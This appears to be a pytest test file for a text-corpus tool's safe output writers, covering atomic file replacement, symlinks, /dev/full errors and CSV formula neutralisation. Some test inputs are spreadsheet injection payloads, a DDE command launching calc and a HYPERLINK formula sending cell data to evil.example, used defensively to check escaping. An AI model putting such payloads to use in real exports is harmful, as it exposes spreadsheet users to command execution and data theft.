"""Safe outputs: whole-or-nothing files, symlinks written through, devices written directly, one-line errors."""
import json
import os
import threading
from pathlib import Path

import pandas as pd
import pytest

from corpus import CorpusError
from corpus.io import export_file, import_file
from corpus.output import (OutputError, SafeDictWriter, atomic_directory, atomic_output, neutralise_cell, safe_csv_writer,
                           write_bytes_atomic, write_text_atomic)

HAS_DEV_FULL = Path("/dev/full").exists()


def test_regular_file_is_replaced_whole_and_keeps_its_permissions(tmp_path):
    out = tmp_path / "out.txt"
    out.write_text("old")
    out.chmod(0o640)
    write_text_atomic(out, "new")
    assert out.read_text() == "new"
    assert oct(out.stat().st_mode & 0o777) == "0o640"
    assert [p.name for p in tmp_path.iterdir()] == ["out.txt"]


def test_an_error_inside_the_block_leaves_the_old_file_and_no_temporary_file(tmp_path):
    out = tmp_path / "out.txt"
    out.write_text("old")
    with pytest.raises(RuntimeError):
        with atomic_output(out) as fh:
            fh.write("half of the new")
            raise RuntimeError("the export failed half way")
    assert out.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.txt"]


def test_symlink_stays_a_symlink_with_the_new_content(tmp_path):
    target = tmp_path / "real" / "data.csv"
    target.parent.mkdir()
    target.write_text("old")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    write_text_atomic(link, "new")
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert link.read_text() == "new" and target.read_text() == "new"


def test_fifo_is_written_directly_not_replaced(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_text()))
    reader.start()
    write_text_atomic(fifo, "through the pipe")
    reader.join(5)
    assert received == ["through the pipe"]
    assert fifo.is_fifo()


def test_missing_folders_are_created(tmp_path):
    out = tmp_path / "no" / "sub" / "out.txt"
    write_text_atomic(out, "x")
    assert out.read_text() == "x"
    with atomic_directory(tmp_path / "runs" / "first") as work:
        (work / "report.html").write_text("r")
    assert (tmp_path / "runs" / "first" / "report.html").read_text() == "r"


def test_an_uncreatable_folder_is_one_clear_error():
    out = Path("/proc/softleft-no-such-folder/out.txt")  # /proc takes no new folders, not even from root
    with pytest.raises(OutputError) as err:
        write_text_atomic(out, "x")
    assert str(err.value).startswith(f"cannot write {out}: cannot create folder {out.parent}")
    assert isinstance(err.value, CorpusError)


def test_a_file_where_the_folder_should_be_is_one_clear_error(tmp_path):
    (tmp_path / "notes.txt").write_text("a file, not a folder")
    out = tmp_path / "notes.txt" / "out.txt"
    with pytest.raises(OutputError, match=r"^cannot write .*out\.txt: .*notes\.txt is not a folder$"):
        write_text_atomic(out, "x")


def test_a_folder_as_destination_is_refused(tmp_path):
    with pytest.raises(OutputError, match="it is a folder; give a file name"):
        write_text_atomic(tmp_path, "x")


def test_read_only_folder_is_one_clear_error():
    """Root ignores folder permissions, so as root the check runs in a child process as `nobody`."""
    import shutil
    import subprocess
    import sys
    import tempfile

    root = Path(__file__).resolve().parents[2]
    as_nobody = []
    if os.geteuid() == 0:
        setpriv = shutil.which("setpriv")
        if not setpriv:
            pytest.skip("running as root without setpriv: cannot test folder permissions")
        as_nobody = [setpriv, "--reuid=nobody", "--regid=nogroup", "--clear-groups"]
    base = Path(tempfile.mkdtemp(prefix="softleft-ro-"))
    try:
        base.chmod(0o755)
        folder = base / "ro"
        folder.mkdir(mode=0o555)
        folder.chmod(0o555)
        code = ("from corpus.output import OutputError, write_text_atomic\n"
                "try:\n    write_text_atomic(%r, 'x')\nexcept OutputError as e:\n    print(e)\n" % str(folder / "out.txt"))
        out = subprocess.run(as_nobody + [sys.executable, "-c", code], cwd=root, capture_output=True, text=True,
                             env={**os.environ, "PYTHONPATH": str(root)})
        if as_nobody and out.returncode != 0:  # e.g. `nobody` cannot read the repository or the venv here
            pytest.skip(f"cannot run as nobody: {out.stderr.strip().splitlines()[-1:]}")
        assert out.stdout == f"cannot write {folder / 'out.txt'}: folder {folder} is not writable (permission denied)\n"
        assert list(folder.iterdir()) == []
    finally:
        shutil.rmtree(base)


@pytest.mark.skipif(not HAS_DEV_FULL, reason="no /dev/full")
@pytest.mark.parametrize("write", [lambda p: write_text_atomic(p, "x" * 100_000),
                                   lambda p: write_bytes_atomic(p, b"x")])
def test_dev_full_gives_the_one_line_error(write):
    with pytest.raises(OutputError) as err:
        write("/dev/full")
    assert str(err.value) == "cannot write /dev/full: no space left on device"
    assert Path("/dev/full").is_char_device()


@pytest.mark.parametrize("value,expected", [
    ("=SUM(A1:A9)", "'=SUM(A1:A9)"), ("+44 20", "'+44 20"), ("-1+2", "'-1+2"), ("@cmd", "'@cmd"),
    ("\tindent", "'\tindent"), ("\rreturn", "'\rreturn"), ("plain", "plain"), ("a=b", "a=b"), ("", ""),
    (-3, -3), (None, None),
])
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def test_safe_writers_neutralise_every_string_cell(tmp_path):
    out = tmp_path / "t.csv"
    with atomic_output(out, newline="") as fh:
        safe_csv_writer(fh).writerows([["term", "n"], ["=cmd|' /C calc'!A0", -2]])
    with atomic_output(tmp_path / "d.csv", newline="") as fh:
        writer = SafeDictWriter(fh, fieldnames=["term", "n"])
        writer.writeheader()
        writer.writerows([{"term": "@SUM(1)", "n": 5}])
    assert out.read_text().splitlines() == ["term,n", "'=cmd|' /C calc'!A0,-2"]
    assert (tmp_path / "d.csv").read_text().splitlines() == ["term,n", "'@SUM(1),5"]


def test_csv_export_neutralises_formulas_and_round_trips_through_pandas_as_text(store, write_jsonl, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
    import_file(store, write_jsonl("f.jsonl", [
        {"text": "-- a text that starts with dashes", "title": formula, "author": "@someone"},
        {"text": "An ordinary text.", "title": "Ordinary"},
    ]))
    out = tmp_path / "out.csv"
    assert export_file(store, out) == 2
    df = pd.read_csv(out, dtype=str, keep_default_na=False).set_index("text")
    assert df.loc["'-- a text that starts with dashes", "title"] == "'" + formula
    assert df.loc["'-- a text that starts with dashes", "authors"] == "'@someone"
    assert df.loc["An ordinary text.", "title"] == "Ordinary"
    rows = [json.loads(line) for line in _export_jsonl(store, tmp_path)]
    assert {r["title"] for r in rows} == {formula, "Ordinary"}  # JSON lines keep values exactly


def _export_jsonl(store, tmp_path):
    export_file(store, tmp_path / "out.jsonl")
    return (tmp_path / "out.jsonl").read_text().splitlines()


def test_export_through_a_symlink_keeps_the_link(store, write_jsonl, tmp_path):
    import_file(store, write_jsonl("a.jsonl", [{"text": "one"}, {"text": "two"}]))
    (tmp_path / "exports").mkdir()
    target = tmp_path / "exports" / "corpus.jsonl"
    target.write_text("stale\n")
    link = tmp_path / "latest.jsonl"
    link.symlink_to(target)
    assert export_file(store, link) == 2
    assert link.is_symlink() and len(target.read_text().splitlines()) == 2


@pytest.mark.skipif(not HAS_DEV_FULL, reason="no /dev/full")
@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_cli_export_to_dev_full_is_one_line_error(run_cli, write_jsonl, fmt):
    run_cli("corpus", "import", str(write_jsonl("a.jsonl", [{"text": "x" * 5000}])))
    r = run_cli("corpus", "export", "-o", "/dev/full", "--format", fmt)
    assert r.exit_code == 1
    assert r.stderr.splitlines()[-1] == "Error: cannot write /dev/full: no space left on device"


def test_cli_export_leaves_no_partial_file_on_failure(run_cli, write_jsonl, tmp_path, monkeypatch):
    run_cli("corpus", "import", str(write_jsonl("a.jsonl", [{"text": "one"}, {"text": "two"}])))
    out = tmp_path / "out.jsonl"
    out.write_text("previous export\n")

    import corpus.io

    real = corpus.io.export_records

    def disk_fills_after_one(store, **filters):
        records = real(store, **filters)
        yield next(records)
        raise OSError(28, "No space left on device")  # what a write to a full disk raises

    monkeypatch.setattr(corpus.io, "export_records", disk_fills_after_one)
    r = run_cli("corpus", "export", "-o", str(out))
    monkeypatch.undo()
    assert r.exit_code == 1
    assert r.stderr.splitlines()[-1] == f"Error: cannot write {out}: no space left on device"
    assert out.read_text() == "previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".out")) == []


def test_cli_export_to_dev_stdout_streams_and_appends_without_the_path(write_jsonl, tmp_path):
    import subprocess
    import sys

    root = Path(__file__).resolve().parents[2]
    db = tmp_path / "c.db"
    run = [sys.executable, str(root / "cli.py"), "--db", str(db)]
    subprocess.run(run + ["corpus", "import", str(write_jsonl("a.jsonl", [{"text": "one"}, {"text": "two"}]))],
                   check=True, capture_output=True)
    piped = subprocess.run(run + ["corpus", "export", "-o", "/dev/stdout", "--format", "jsonl"],
                           check=True, capture_output=True, text=True)
    assert sorted(json.loads(line)["text"] for line in piped.stdout.splitlines()) == ["one", "two"]
    out = tmp_path / "log.jsonl"
    out.write_text('{"text": "earlier"}\n')
    with out.open("a") as fh:  # cli ... -o /dev/stdout >> log.jsonl
        subprocess.run(run + ["corpus", "export", "-o", "/dev/stdout", "--format", "jsonl"], check=True, stdout=fh,
                       stderr=subprocess.DEVNULL)
    lines = [json.loads(line)["text"] for line in out.read_text().splitlines()]
    assert lines[0] == "earlier" and sorted(lines[1:]) == ["one", "two"]
